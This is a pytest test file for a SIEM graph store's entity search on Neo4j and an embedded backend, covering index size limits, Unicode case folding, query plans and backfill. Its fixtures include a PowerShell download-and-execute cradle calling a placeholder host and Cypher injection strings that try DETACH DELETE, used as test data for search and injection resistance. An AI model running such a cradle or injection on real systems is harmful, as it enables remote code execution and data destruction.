"""``search_entities``: both stores give the hits of the reference definition (``match_rank``).

The graph below goes through every write path that gives a node its search
copies on Neo4j: entity upserts (new and merged, with and without a value),
relation endpoints (bulk ``CREATE`` and the ``MERGE`` fallback), sightings and
``apply_batch``; it holds texts past the TEXT index's size limit, characters
that lower-case differently in Python and Java, quotes and Cypher fragments.
Each needle's hits must equal what :func:`~graphsiem.store.base.match_rank`
says of the entities as read back, on the embedded store and on Neo4j.
"""

from __future__ import annotations

import time
from collections.abc import Iterator

import pytest

from graphsiem.model import Entity, Projection, Relation, Sighting
from graphsiem.store import neo4j_queries as q
from graphsiem.store.base import CONTAINS, IN_PROP, PREFIX, GraphStore, SearchHit, match_rank
from graphsiem.store.neo4j_store import MAX_TEXT_INDEX_BYTES, Neo4jStore

LONG_WORD = "needleAtTheEnd"
SCRIPT_64K = "Write-Output 'pad'; " * 3276 + LONG_WORD  # 65,534 ASCII bytes: past the index limit
SCRIPT_AT_LIMIT = "x" * (MAX_TEXT_INDEX_BYTES - 9) + "limitWord"  # exactly the limit: indexed
SCRIPT_PAST_LIMIT = "x" * (MAX_TEXT_INDEX_BYTES - 8) + "limitWord"  # one byte more: overflow
SHARP_S = "ß" * 9000 + " scharfEnd"  # 9,000 characters under the character bound, 18,010 bytes
WIDE = "中" * 11_000 + " wideEnd"  # 33,008 bytes: past the limit although only 11,008 characters
LONG_URL = "http://x.example/" + "q" * 40_000 + "/LongTail"  # hashed key, key copy past the limit
CYPHER_VALUE = "cmd /c echo x' OR 1=1 // }) MATCH (n) DETACH DELETE n `tick` \"dq\" \\back %_"
DECODED = "IEX (New-Object Net.WebClient).DownloadString('http://QuokkaLantern.example/a')"

ENTITIES = [
    Entity("domain", "evil.example", "Evil.Example", {"registered_domain": "evil.example"}),
    Entity("domain", "cdn-img-delivery.example", "cdn-img-delivery.example"),
    Entity("host", "ws-0001", "WS-0001"),
    Entity("host", "ws-0002", ""),  # no value: value = key
    Entity("process", "abc123hash", "powershell.exe -NoP -enc SQBFAFgA",
           {"decoded_command": DECODED, "image": "powershell.exe"}),
    Entity("process", "p-cypher", CYPHER_VALUE),
    Entity("process", "p-unicode", "notepad.exe C:\\Users\\İlker\\Straße.txt",
           {"decoded_command": "ΣΊΣΥΦΟΣ wrote ǅemal"}),
    Entity("process", "p-nondecoded", "calc.exe", {"decoded_command": 42}),  # not a string
    Entity("script", "s-64k", SCRIPT_64K[:200], {"text": SCRIPT_64K, "length": len(SCRIPT_64K)}),
    Entity("script", "s-at-limit", "x" * 200, {"text": SCRIPT_AT_LIMIT}),
    Entity("script", "s-past-limit", "x" * 200, {"text": SCRIPT_PAST_LIMIT}),
    Entity("script", "s-sharp", "ß" * 200, {"text": SHARP_S}),
    Entity("script", "s-wide", "中" * 200, {"text": WIDE}),
    Entity("url", LONG_URL, LONG_URL),
    Entity("file", "e3b0c44298fc1c149afbf4c8996fb924", "C:\\Temp\\Payload.DLL"),
]
LATER = [
    # merged later: the value changes (the old one must stop matching), a value-less
    # upsert keeps it, a script's text changes
    Entity("domain", "evil.example", "EVIL.example.Renamed"),
    Entity("host", "ws-0001", ""),
    Entity("script", "s-at-limit", "", {"text": "short now: newTextWord"}),
]
RELATIONS = [
    Relation(("host", "ws-0001"), "RAN", ("process", "abc123hash"), 1.0, 2.0, 1, ["e1"]),
    Relation(("process", "abc123hash"), "CONNECTED", ("ip", "198.51.100.7"), 1.0, 2.0, 1, ["e2"]),
    Relation(("process", "abc123hash"), "RESOLVED", ("domain", "Mixed.Case.Endpoint"), 1.0, 2.0, 1,
             ["e3"]),
    Relation(("process", "p-cypher"), "REQUESTED", ("url", "http://y.example/" + "r" * 33_000),
             1.0, 2.0, 1, ["e4"]),
]
SIGHTINGS = [Sighting("ws-0003", ("domain", "evil.example"), 1.0, 2.0, 1)]
BATCH = Projection(
    entities=[Entity("process", "p-batch", "rundll32.exe batchOnlyWord.dll",
                     {"decoded_command": "batch decoded ΣΊΣΥΦΟΣ"})],
    relations=[Relation(("host", "ws-0004"), "RAN", ("process", "p-batch"), 1.0, 2.0, 1, ["e5"])],
    sightings=[Sighting("ws-0004", ("process", "p-batch"), 1.0, 2.0, 1)],
)

NEEDLES = [
    "evil", "EVIL", "renamed", "example", "ws-", "ws-0002", "0001", "abc123", "powershell",
    "quokkalantern", "downloadstring('http", "'", '"', "`", "\\", "%_", "}) match (n)",
    "detach delete n", "1=1 //", "straße", "STRASSE", "i̇lker", "İlker", "σίσυφος", "ΣΊΣΥΦΟΣ",
    "ǆemal", LONG_WORD, LONG_WORD.upper(), "'pad'; write", "limitword", "newtextword",
    "short now", "scharfend", "ßß", "wideend", "中中", "longtail", "rrrr", "198.51", "mixed.case",
    "payload.dll", "batchonlyword", "batch decoded", "x", "a", "zz-nothing-here", "e3b0c4",
    "q" * 512,
]


def _write(store: GraphStore) -> None:
    store.upsert_entities(ENTITIES)
    store.upsert_relations(RELATIONS)
    store.upsert_sightings(SIGHTINGS)
    store.upsert_entities(LATER)
    if isinstance(store, Neo4jStore):
        store.apply_batch(BATCH, seq=1, journal="test-search")
    else:  # the embedded store writes a batch through the same three upserts
        store.upsert_entities(BATCH.entities)
        store.upsert_relations(BATCH.relations)
        store.upsert_sightings(BATCH.sightings)
    store.flush()


def _expected(store: GraphStore, needle: str, entity_type: str | None) -> set[tuple]:
    """The reference: every entity read back, ranked by ``match_rank``."""
    expected = set()
    for entity in store.iter_entities(entity_type):
        found = match_rank(needle.lower(), entity.type, entity.key, entity.value, entity.props)
        if found is not None:
            expected.add((found[0], found[1], entity.type, entity.key))
    return expected


def _found(hits: list[SearchHit]) -> set[tuple]:
    return {(h.rank, h.matched, h.entity.type, h.entity.key) for h in hits}


@pytest.fixture
def written(store: GraphStore) -> Iterator[GraphStore]:
    _write(store)
    yield store


@pytest.mark.parametrize("needle", NEEDLES, ids=lambda n: repr(n[:24]))
def test_hits_are_the_reference_definitions(written: GraphStore, needle: str) -> None:
    hits = written.search_entities(needle, limit=1000)
    assert _found(hits) == _expected(written, needle, None)
    assert [h.rank for h in hits] == sorted(h.rank for h in hits)  # best rank first
    assert len({(h.entity.type, h.entity.key) for h in hits}) == len(hits)  # each entity once


@pytest.mark.parametrize("entity_type", ["process", "script", "domain", "url", "ip", "user"])
@pytest.mark.parametrize("needle", ["e", "ß", "evil", "needleattheend", "quokka", "rrr"])
def test_a_type_filter_keeps_the_hits_of_that_type(written: GraphStore, needle: str,
                                                   entity_type: str) -> None:
    hits = written.search_entities(needle, entity_type=entity_type, limit=1000)
    assert _found(hits) == _expected(written, needle, entity_type)


def test_hits_return_the_entity_as_stored(written: GraphStore) -> None:
    (hit,) = written.search_entities(LONG_WORD, limit=10)
    assert (hit.rank, hit.matched) == (IN_PROP, "text")
    assert hit.entity == written.get_entity("script", "s-64k")
    assert hit.entity.props["text"] == SCRIPT_64K  # the original text, never the copy
    (url,) = written.search_entities("longtail", limit=10)
    assert (url.entity.key, url.matched, url.rank) == (LONG_URL, "value", CONTAINS)


def test_the_old_value_and_text_stop_matching_after_an_update(written: GraphStore) -> None:
    assert written.search_entities("limitword", limit=10) == [
        SearchHit(written.get_entity("script", "s-past-limit"), "text", IN_PROP)]
    assert written.search_entities("newtextword", limit=10)[0].entity.key == "s-at-limit"
    renamed = written.search_entities("evil.example.renamed", limit=10)
    assert [(h.entity.key, h.rank) for h in renamed] == [("evil.example", PREFIX)]
    # "Evil.Example" alone is no longer a value: the key still starts with it
    assert [(h.matched, h.rank) for h in written.search_entities("evil.example", limit=10)] == [
        ("value", PREFIX)]


@pytest.mark.parametrize("limit", [1, 2, 3, 5])
def test_at_most_limit_plus_one_hits_best_rank_first(written: GraphStore, limit: int) -> None:
    every = written.search_entities("e", limit=1000)
    hits = written.search_entities("e", limit=limit)
    assert len(hits) == min(limit + 1, len(every))
    assert [h.rank for h in hits] == [h.rank for h in every][: len(hits)]
    assert _found(hits) <= _found(every)


def test_an_empty_store_finds_nothing(store: GraphStore) -> None:
    assert store.search_entities("anything", limit=5) == []


def test_an_unknown_type_is_refused(store: GraphStore) -> None:
    with pytest.raises(ValueError):
        store.search_entities("x", entity_type="planet`) DETACH DELETE (n")


# -- Neo4j: copies, the index limit, the plan, the backfill of older graphs --------


def _props(store: Neo4jStore, label: str, key: str) -> tuple[list[str], dict]:
    records, _, _ = store._driver.execute_query(
        f"MATCH (n:{label}) WHERE coalesce(n.full_key, n.key) = $key "
        "RETURN labels(n) AS labels, properties(n) AS p", {"key": key},
        database_=store.database)
    return sorted(records[0]["labels"]), records[0]["p"]


@pytest.mark.neo4j
def test_copies_past_the_index_limit_are_kept_unindexed_on_overflow_nodes(neo4j_store):
    _write(neo4j_store)
    labels, at_limit = _props(neo4j_store, "Script", "s-past-limit")
    assert "SearchOverflow" in labels and "_search_text" not in at_limit
    assert at_limit["_search_text_long"] == SCRIPT_PAST_LIMIT.lower()
    labels, wide = _props(neo4j_store, "Script", "s-wide")
    assert "SearchOverflow" in labels and wide["_search_text_long"] == WIDE.lower()
    labels, sharp = _props(neo4j_store, "Script", "s-sharp")
    assert "SearchOverflow" not in labels and sharp["_search_text"] == SHARP_S.lower()
    labels, url = _props(neo4j_store, "Url", LONG_URL)
    assert "SearchOverflow" in labels and url["_search_value_long"] == LONG_URL.lower()
    labels, endpoint = _props(neo4j_store, "Url", "http://y.example/" + "r" * 33_000)
    assert "SearchOverflow" in labels and "_search_value" not in endpoint
    labels, process = _props(neo4j_store, "Process", "abc123hash")
    assert "SearchOverflow" not in labels
    assert (process["_search_value"], process["_search_key"], process["_search_text"]) == (
        "powershell.exe -nop -enc sqbfafga", "abc123hash", DECODED.lower())


@pytest.mark.neo4j
def test_exactly_the_index_limit_is_indexed(neo4j_store):
    neo4j_store.upsert_entities([Entity("script", "edge", "e", {"text": "é" * (MAX_TEXT_INDEX_BYTES // 2)})])
    labels, props = _props(neo4j_store, "Script", "edge")
    assert len(props["_search_text"].encode()) == MAX_TEXT_INDEX_BYTES
    assert "SearchOverflow" not in labels


def _operators(plan: dict) -> Iterator[tuple[str, str]]:
    yield plan["operatorType"].split("@")[0], plan.get("args", {}).get("Details", "")
    for child in plan.get("children", []):
        yield from _operators(child)


SEARCH_INDEXES = {f"entity{copy}": copy for copy in (q.SEARCH_VALUE, q.SEARCH_KEY, q.SEARCH_TEXT)}


def _sample_search_indexes(store: Neo4jStore) -> dict[str, int]:
    """Resample the search indexes now; returns each copy's sampled size once no update is pending."""
    for name in SEARCH_INDEXES:
        store._driver.execute_query("CALL db.resampleIndex($name)", {"name": name},
                                    database_=store.database)
    deadline = time.monotonic() + 30
    while True:
        (record,) = store._read("CALL db.stats.retrieve('GRAPH COUNTS') YIELD data RETURN data")
        sampled = {index["properties"][0]: (index["updatesSinceEstimation"], index["totalSize"])
                   for index in record["data"]["indexes"] if index.get("properties")}
        sizes = {copy: sampled[copy] for copy in SEARCH_INDEXES.values()}
        if all(updates == 0 for updates, _ in sizes.values()):
            return {copy: size for copy, (_, size) in sizes.items()}
        # Say so here: stale sizes returned would fail the caller with a misleading message.
        assert time.monotonic() < deadline, f"search indexes not resampled within 30 s: {sizes}"
        time.sleep(0.1)


@pytest.mark.neo4j
@pytest.mark.parametrize("sampled", ["while empty", "after the writes"])
@pytest.mark.parametrize("entity_type", [None, "process"])
@pytest.mark.parametrize("rank", [PREFIX, CONTAINS, IN_PROP])
def test_each_rank_reads_the_text_indexes_not_every_entity(neo4j_store, rank, entity_type, sampled):
    # The planner costs plans from the indexes' sampled sizes, so the plan is
    # made (query cache cleared) from both states it meets: statistics sampled
    # in an empty database (a new or just-cleared one; with a few writes since,
    # fewer than trigger a resample, a plain TEXT INDEX hint let the prefix rank
    # scan its whole key index) and statistics that match the graph.
    if sampled == "while empty":
        assert set(_sample_search_indexes(neo4j_store).values()) == {0}
        _write(neo4j_store)
    else:
        _write(neo4j_store)
        assert 0 not in _sample_search_indexes(neo4j_store).values()
    neo4j_store._driver.execute_query("CALL db.clearQueryCaches()", database_=neo4j_store.database)
    result = neo4j_store._driver.execute_query(
        "EXPLAIN " + q.search_rank(rank, entity_type), {"needle": "evil", "limit": 3},
        database_=neo4j_store.database)
    operators = list(_operators(result.summary.plan))
    copies = [q.SEARCH_TEXT] if rank == IN_PROP else [q.SEARCH_VALUE, q.SEARCH_KEY]
    for copy in copies:
        assert any(op.startswith("NodeIndex") and f"TEXT INDEX n:Entity({copy})" in details
                   for op, details in operators), operators
    # No full index scan, and the one label scan (NodeByLabelScan, or with a
    # type IntersectionNodeByLabelsScan) is of the few nodes whose copies are
    # too long to index: never AllNodesScan or a scan of Entity or a type.
    scans = [(op, details) for op, details in operators
             if op.endswith("Scan") and op not in ("NodeIndexContainsScan",)]
    assert len(scans) == 1 and "n:SearchOverflow" in scans[0][1], scans


@pytest.mark.neo4j
def test_a_graph_written_before_search_copies_gets_them_when_opened(neo4j_store, neo4j_server):
    neo4j_store._driver.execute_query(
        """CREATE (:Process:Entity {key: 'old-p', uid: 'process:old-p', type: 'process',
                   value: 'OLD.exe /Run', decoded_command: 'Old Decoded ΣΊΣΥΦΟΣ'})
           CREATE (:Script:Entity {key: 'old-s', uid: 'script:old-s', type: 'script',
                   value: 'old', text: $text})
           WITH 1 AS one MATCH (m:GraphsiemMeta {name: 'search'}) DELETE m""",
        {"text": SCRIPT_64K}, database_=neo4j_store.database)
    assert neo4j_store.search_entities("old.exe", limit=5) == []  # no copies yet

    reopened = neo4j_server.connect()
    try:
        assert [(h.entity.key, h.matched) for h in reopened.search_entities("old.exe", limit=5)] == [
            ("old-p", "value")]
        assert [(h.entity.key, h.matched) for h in reopened.search_entities("σίσυφος", limit=5)] == [
            ("old-p", "decoded_command")]
        assert [(h.entity.key, h.matched) for h in reopened.search_entities(LONG_WORD, limit=5)] == [
            ("old-s", "text")]
        version = reopened._read(q.SEARCH_MARK_READ)[0]["version"]
        assert version == q.SEARCH_VERSION
    finally:
        reopened.close()


@pytest.mark.neo4j
def test_a_batch_of_large_scripts_fits_in_the_transaction_memory(neo4j_store):
    # 4,000 scripts of 8 KiB: 32M characters of copies, whose TEXT index state
    # in one transaction passed the test server's 256 MiB limit
    text = "Get-Process | Where-Object { $_.CPU -gt 100 } # padding\n" * 146
    scripts = [Entity("script", f"s{i}", text[:200], {"text": f"{i} marker{i}x {text}"})
               for i in range(4_000)]
    neo4j_store.upsert_entities(scripts)
    assert neo4j_store.counts()["entities"] == {"script": 4_000}
    (hit,) = neo4j_store.search_entities("marker3999x", limit=5)
    assert (hit.entity.key, hit.matched) == ("s3999", "text")
